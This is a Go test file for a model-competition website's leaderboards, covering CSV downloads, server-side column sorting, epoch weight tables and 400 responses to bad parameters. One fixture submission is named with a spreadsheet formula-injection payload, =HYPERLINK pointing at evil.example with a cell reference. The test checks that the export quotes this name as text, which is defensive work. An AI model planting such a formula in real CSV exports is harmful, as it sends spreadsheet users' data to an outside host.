package web_test

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"crucible/internal/competition"
	"crucible/internal/eval"
	"crucible/internal/eval/roleplay"
	"crucible/internal/store"
	"crucible/internal/store/storetest"
)

// roleplayComp is the id of the roleplay competition addRoleplay stores.
const roleplayComp = "c-roleplay"

// addRoleplay stores a roleplay competition in db whose three scored
// submissions are two people's models of the same name and a third whose
// name a spreadsheet would run as a formula; quality decides the order.
func addRoleplay(t *testing.T, db *store.DB) {
	t.Helper()
	ctx := context.Background()
	const items = 4
	rows := make([]json.RawMessage, items)
	for i := range rows {
		rows[i] = json.RawMessage(`{}`)
	}
	c := competition.Competition{ID: roleplayComp, Kind: roleplay.Name, Title: "Persona chat", Config: json.RawMessage(`{}`),
		DatasetName: "personas", DatasetDigest: strings.Repeat("ef", 32), Items: items, CreatedBy: "ed25519:owner", CreatedAt: t0}
	if err := db.CreateCompetition(ctx, c, rows); err != nil {
		t.Fatal(err)
	}
	// Mallory's prompts are not chats the kind can read: her page falls
	// back to the generic rows (TestASubmissionPageSurvivesAnUndescribableResult).
	chat, _ := json.Marshal([]map[string]string{{"role": "system", "content": "You are Mira, a lighthouse keeper."},
		{"role": "user", "content": "Is the lamp lit tonight?"}})
	prompt := func(id string) string {
		if id == "s-rp-mallory" {
			return "hi"
		}
		return string(chat)
	}
	add := func(id, name, submitter string, at int, quality, vibe float64) {
		sub := competition.Submission{ID: id, CompetitionID: c.ID, Name: name, Submitter: submitter,
			Model: competition.ModelSpec{BaseURL: "http://127.0.0.1:9/v1", Model: name}, Digest: strings.Repeat("cd", 32),
			CommittedAt: t0.Add(time.Duration(at) * time.Minute), State: competition.StateQueued, ItemsTotal: items, UpdatedAt: t0}
		if err := db.InTx(ctx, func(tx *sql.Tx) error { return db.CreateSubmissionTx(ctx, tx, sub, "") }); err != nil {
			t.Fatal(err)
		}
		scores := make([]float64, items)
		for i := range items {
			detail := fmt.Sprintf(`{"components":{"quality":%g,"creativity":0.5,"vibe":%g,"latency":1},"judge":{"score":4}}`, quality, vibe)
			scores[i] = quality
			r := eval.Result{Index: i, Prompt: prompt(id), Response: fmt.Sprintf("reply %d from %s", i, id), Score: quality,
				Started: t0, Ended: t0, Detail: json.RawMessage(detail)}
			if err := db.InsertResult(ctx, id, r); err != nil {
				t.Fatal(err)
			}
		}
		card := competition.NewCard(scores, 0)
		if _, err := storetest.SetState(ctx, db, id, competition.StateScored, "", &card, t0); err != nil {
			t.Fatal(err)
		}
	}
	add("s-rp-alice", "llama-3-8b", "ed25519:AAAAalice0000000000000000", 1, 0.9, 0.2)
	add("s-rp-bob", "llama-3-8b", "ed25519:BBBBbob00000000000000000", 2, 0.5, 0.9)
	add("s-rp-mallory", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "ed25519:MMMMmallory0000000000000", 3, 0.7, 0.5)
}

// readCSV GETs a CSV leaderboard and parses it.
func readCSV(t *testing.T, url string) [][]string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("GET %s: %d %s, want 200 text/csv", url, resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	recs, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	return recs
}

// column returns the values of the CSV column named name (header row first).
func column(t *testing.T, recs [][]string, name string) []string {
	t.Helper()
	for j, h := range recs[0] {
		if h == name {
			var out []string
			for _, r := range recs[1:] {
				out = append(out, r[j])
			}
			return out
		}
	}
	t.Fatalf("CSV has no column %q: %v", name, recs[0])
	return nil
}

// A leaderboard names each row's submitter (two people's identical model
// names stay apart), shows the kind's score components as columns, sorts
// by any column on the server and downloads as CSV in the page's order.
func TestLeaderboardSubmittersComponentsSortingAndCSV(t *testing.T) {
	db := newStore(t)
	addRoleplay(t, db)
	srv := newServer(t, db)

	t.Run("the page shows submitter handles and the kind's components", func(t *testing.T) {
		code, body := get(t, srv.URL+"/c/"+roleplayComp)
		if code != 200 {
			t.Fatalf("GET: %d", code)
		}
		for _, want := range []string{`title="ed25519:AAAAalice0000000000000000">ed25519:AAAAal…<`, `title="ed25519:BBBBbob00000000000000000">ed25519:BBBBbo…<`,
			`sort=c%3Aquality`, `>quality<`, `>vibe<`, `<option value="c:quality">quality</option>`, `data-label="quality">0.900<`, `href="/c/c-roleplay/leaderboard.csv"`} {
			if !strings.Contains(body, want) {
				t.Errorf("page lacks %q", want)
			}
		}
	})

	t.Run("sorting by a component reorders the rows, page and CSV alike", func(t *testing.T) {
		_, body := get(t, srv.URL+"/c/"+roleplayComp+"?sort=c:vibe&dir=desc")
		at := func(who string) int { return strings.Index(body, `<code class="handle" title="ed25519:`+who) }
		bob, mallory, alice := at("BBBB"), at("MMMM"), at("AAAA")
		if bob < 0 || !(bob < mallory && mallory < alice) {
			t.Fatalf("sorted by vibe, descending: want bob, mallory, alice; at %d, %d, %d", bob, mallory, alice)
		}
		if !strings.Contains(body, `aria-sort="descending"><a href="/c/c-roleplay?dir=asc&amp;sort=c%3Avibe#leaderboard">vibe`) {
			t.Error("the sorted column does not say so (aria-sort) or does not offer the other direction")
		}
		recs := readCSV(t, srv.URL+"/c/"+roleplayComp+"/leaderboard.csv?sort=c:vibe&dir=desc")
		if ids := column(t, recs, "submission_id"); strings.Join(ids, ",") != "s-rp-bob,s-rp-mallory,s-rp-alice" {
			t.Fatalf("CSV sorted by vibe: %v", ids)
		}
	})

	t.Run("the CSV has the page's rows, submitters and components", func(t *testing.T) {
		recs := readCSV(t, srv.URL+"/c/"+roleplayComp+"/leaderboard.csv")
		if got := column(t, recs, "rank"); strings.Join(got, ",") != "1,2,3" {
			t.Fatalf("ranks %v", got)
		}
		if got := column(t, recs, "submitter"); got[0] != "ed25519:AAAAalice0000000000000000" || got[2] != "ed25519:BBBBbob00000000000000000" {
			t.Fatalf("submitters %v: want the full key ids, alice first and bob last", got)
		}
		if got := column(t, recs, "quality"); strings.Join(got, ",") != "0.9,0.7,0.5" {
			t.Fatalf("quality column %v", got)
		}
		if got := column(t, recs, "score"); got[0] != "0.9" {
			t.Fatalf("score column %v", got)
		}
	})

	t.Run("a competitor's name cannot become a spreadsheet formula", func(t *testing.T) {
		recs := readCSV(t, srv.URL+"/c/"+roleplayComp+"/leaderboard.csv")
		for _, name := range column(t, recs, "name") {
			if strings.HasPrefix(name, "=") {
				t.Fatalf("name %q starts with = in the CSV: a spreadsheet runs it", name)
			}
		}
		if got := column(t, recs, "name")[1]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
			t.Fatalf("the formula name became %q, want it quoted as text", got)
		}
	})

	t.Run("an unknown sort column or direction is a 400", func(t *testing.T) {
		for _, q := range []string{"?sort=password", "?sort=c:nope", "?sort=score&dir=sideways", "?sort=" + strings.Repeat("x", 5000)} {
			code, body := get(t, srv.URL+"/c/"+roleplayComp+q)
			if code != 400 || strings.Contains(body, strings.Repeat("x", 100)) {
				t.Errorf("GET %s: %d, want 400 without echoing the whole parameter", q[:min(len(q), 30)], code)
			}
		}
		if resp, err := http.Get(srv.URL + "/c/" + roleplayComp + "/leaderboard.csv?sort=bogus"); err != nil || resp.StatusCode != 400 {
			t.Errorf("CSV with a bogus sort: %v %v, want 400", resp.StatusCode, err)
		}
	})

	t.Run("the favicon is served", func(t *testing.T) {
		resp, err := http.Get(srv.URL + "/favicon.ico")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "image/svg+xml" {
			t.Fatalf("/favicon.ico: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
		}
	})

	t.Run("the nav links competitions, pools, labelling, epochs and validators", func(t *testing.T) {
		_, body := get(t, srv.URL+"/")
		for _, want := range []string{`href="/"`, `href="/#pools"`, `href="/label"`, `href="/epochs"`, `href="/epochs#validators"`, `rel="icon"`} {
			if !strings.Contains(body, want) {
				t.Errorf("home page lacks %q", want)
			}
		}
	})
}

// A pool's CSV is its public snapshot, as the page shows it: the same rows
// at ?at=, never a score over the private items before settlement.
func TestAPoolLeaderboardCSVIsThePublicSnapshot(t *testing.T) {
	f := newPoolFixture(t)
	f.clock.Set(poolStart.Add(11 * time.Hour))
	srv := f.server(t)
	for _, id := range []string{f.open, f.settled} {
		_, body := get(t, srv.URL+"/c/"+id)
		recs := readCSV(t, srv.URL+"/c/"+id+"/leaderboard.csv")
		names := column(t, recs, "name")
		if len(names) == 0 {
			t.Fatalf("pool %s: empty CSV", id)
		}
		board := body[strings.Index(body, `id="leaderboard"`):]
		board = board[:strings.Index(board, "</table>")]
		if rows := strings.Count(board, "<tr class="); rows != len(names) {
			t.Fatalf("pool %s: %d rows on the page, %d in the CSV", id, rows, len(names))
		}
		scores := column(t, recs, "score")
		for i, n := range names {
			if !strings.Contains(board, n) || !strings.Contains(board, fmt.Sprintf("%.3f", parseFloat(t, scores[i]))) {
				t.Fatalf("pool %s: CSV row %s %s is not on the page's public board", id, n, scores[i])
			}
		}
	}
	first := f.snapshots[0].UTC().Format(time.RFC3339Nano)
	if recs := readCSV(t, srv.URL+"/c/"+f.settled+"/leaderboard.csv?at="+first); len(recs) != 3 {
		t.Fatalf("the first snapshot's CSV has %d rows, want a header and the 2 entrants of the first hour", len(recs))
	}
}

func parseFloat(t *testing.T, s string) float64 {
	t.Helper()
	var v float64
	if _, err := fmt.Sscan(s, &v); err != nil {
		t.Fatalf("%q: %v", s, err)
	}
	return v
}

// An epoch's weights table names submitters and downloads as CSV in the
// page's order (by weight), for the epoch asked for.
func TestAnEpochsWeightsDownloadAsCSV(t *testing.T) {
	f := newPoolFixture(t)
	srv := f.server(t)
	_, body := get(t, srv.URL+"/epochs/"+f.epochComp)
	recs := readCSV(t, srv.URL+"/epochs/"+f.epochComp+"/weights.csv")
	names := column(t, recs, "name")
	if len(names) != 5 || names[0] != "chatty-mistral" {
		t.Fatalf("latest epoch's CSV names %v, want 5 rows led by chatty-mistral", names)
	}
	last := -1
	for _, n := range names {
		i := strings.Index(body, `<a href="/s/s-`+n+`">`+n+`</a></th>`)
		if i < last {
			t.Fatalf("%s is out of the page's order in the CSV", n)
		}
		last = i
	}
	if !strings.Contains(body, `class="handle"`) || !strings.Contains(body, "weights.csv?epoch=") {
		t.Error("the epoch page shows no submitter handle or no CSV link")
	}
	first := readCSV(t, srv.URL+"/epochs/"+f.epochComp+"/weights.csv?epoch="+itoa(f.epochs[0]))
	if got := column(t, first, "name"); strings.Join(got, ",") != "warm-llama,chatty-mistral" {
		t.Fatalf("first epoch's CSV %v, want warm-llama, chatty-mistral", got)
	}
	if resp, err := http.Get(srv.URL + "/epochs/" + f.epochComp + "/weights.csv?epoch=-1"); err != nil || resp.StatusCode != 400 {
		t.Fatalf("?epoch=-1: %v %v, want 400", resp.StatusCode, err)
	}
}

// A kind whose count of correct items means nothing (roleplay: every
// judged reply "counts") has no Correct column, on the page or in the CSV,
// and cannot be sorted by it; a multiple-choice board keeps it.
func TestABoardWithoutCorrectCountsHidesTheColumn(t *testing.T) {
	db := newStore(t)
	addRoleplay(t, db)
	srv := newServer(t, db)
	_, body := get(t, srv.URL+"/c/"+roleplayComp)
	if !strings.Contains(body, `id="leaderboard"`) {
		t.Fatal("the roleplay page has no leaderboard")
	}
	for _, bad := range []string{`data-label="Correct"`, `>Correct<`, `<option value="correct"`, " / 4<"} {
		if strings.Contains(body, bad) {
			t.Errorf("the roleplay leaderboard shows %q", bad)
		}
	}
	recs := readCSV(t, srv.URL+"/c/"+roleplayComp+"/leaderboard.csv")
	if slices.Contains(recs[0], "correct") {
		t.Errorf("the roleplay CSV has a correct column: %v", recs[0])
	}
	if got := column(t, recs, "items"); strings.Join(got, ",") != "4,4,4" {
		t.Errorf("the roleplay CSV's items column %v, want 4 each (the columns after correct moved with it)", got)
	}
	for _, row := range recs {
		if len(row) != len(recs[0]) {
			t.Fatalf("a CSV row has %d cells beside %d headings", len(row), len(recs[0]))
		}
	}
	if code, _ := get(t, srv.URL+"/c/"+roleplayComp+"?sort=correct"); code != http.StatusBadRequest {
		t.Errorf("sorting a roleplay board by the hidden Correct column: %d, want 400", code)
	}

	f := newFixture(t)
	mcqSrv := newServer(t, f.db)
	_, body = get(t, mcqSrv.URL+"/c/"+f.comp)
	for _, want := range []string{`data-label="Correct"`, `<option value="correct"`} {
		if !strings.Contains(body, want) {
			t.Errorf("the multiple-choice leaderboard lacks %q", want)
		}
	}
	if recs := readCSV(t, mcqSrv.URL+"/c/"+f.comp+"/leaderboard.csv"); !slices.Contains(recs[0], "correct") {
		t.Errorf("the multiple-choice CSV lost its correct column: %v", recs[0])
	}
}

// An epoch's table sorts by a column on the server, page and CSV alike; the
// chart keeps the weight order, and /epochs (many tables) has no sort links.
func TestAnEpochTableSortsOnTheServer(t *testing.T) {
	f := newPoolFixture(t)
	srv := f.server(t)
	byWeight := column(t, readCSV(t, srv.URL+"/epochs/"+f.epochComp+"/weights.csv"), "name")
	want := slices.Sorted(slices.Values(byWeight))
	if slices.Equal(want, byWeight) {
		t.Fatalf("the fixture's weight order %v is already by name: the test could not fail", byWeight)
	}
	_, body := get(t, srv.URL+"/epochs/"+f.epochComp+"?sort=name&dir=asc")
	last := -1
	for _, n := range want {
		i := strings.Index(body, `<a href="/s/s-`+n+`">`+n+`</a></th>`)
		if i < last {
			t.Fatalf("sorted by name, %s is out of order on the page (want %v)", n, want)
		}
		last = i
	}
	if !strings.Contains(body, `aria-sort="ascending"><a href="/epochs/`+f.epochComp+`?dir=desc&amp;sort=name#epoch-`+f.epochComp+`-`) {
		t.Error("the sorted heading does not say so (aria-sort) or does not offer the other direction")
	}
	if !strings.Contains(body, `weights.csv?epoch=`+itoa(f.epochs[2])+`&amp;dir=asc&amp;sort=name"`) {
		t.Error("the page's CSV link does not keep its order")
	}
	csvNames := column(t, readCSV(t, srv.URL+"/epochs/"+f.epochComp+"/weights.csv?sort=name&dir=asc"), "name")
	if !slices.Equal(csvNames, want) {
		t.Fatalf("CSV sorted by name: %v, want %v", csvNames, want)
	}
	if code, _ := get(t, srv.URL+"/epochs/"+f.epochComp+"?sort=copy_of"); code != http.StatusBadRequest {
		t.Errorf("?sort=copy_of: %d, want 400", code)
	}
	if code, _ := get(t, srv.URL+"/epochs/"+f.epochComp+"?sort=weight&dir=up"); code != http.StatusBadRequest {
		t.Errorf("?dir=up: %d, want 400", code)
	}
	if _, body := get(t, srv.URL+"/epochs"); strings.Contains(body, "sort=weight") {
		t.Error("/epochs, which shows many epochs, links a sort that would reorder them all")
	}
}

// A result its kind cannot describe (here a prompt that is not a chat)
// leaves the submission page on the generic rows instead of a 500.
func TestASubmissionPageSurvivesAnUndescribableResult(t *testing.T) {
	db := newStore(t)
	addRoleplay(t, db)
	srv := newServer(t, db)
	code, body := get(t, srv.URL+"/s/s-rp-mallory")
	if code != http.StatusOK || !strings.Contains(body, `id="results"`) || !strings.Contains(body, "reply 0 from s-rp-mallory") {
		t.Fatalf("GET /s/s-rp-mallory: %d, want 200 with the generic results table:\n%s", code, body)
	}
	if _, body := get(t, srv.URL+"/s/s-rp-alice"); !strings.Contains(body, `class="chats"`) {
		t.Error("a describable roleplay submission is not shown as chats")
	}
}
